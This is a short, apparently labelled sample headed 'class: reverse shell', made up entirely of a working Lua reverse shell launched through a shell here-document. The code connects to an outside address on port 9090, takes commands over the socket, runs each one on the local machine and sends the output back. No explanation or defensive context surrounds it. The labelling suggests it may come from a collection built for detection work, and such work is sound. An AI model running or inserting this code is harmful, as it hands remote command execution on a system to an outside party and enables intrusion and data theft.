# class: reverse shell; style: lua in a here-document
lua5.3 - <<'LUA'
local socket = require("socket")
local c = assert(socket.connect("203.0.113.81", 9090))
while true do
  local line = c:receive("*l")
  if not line or line == "exit" then break end
  local f = io.popen(line .. " 2>&1"); local out = f:read("*a"); f:close()
  c:send(out)
end
LUA
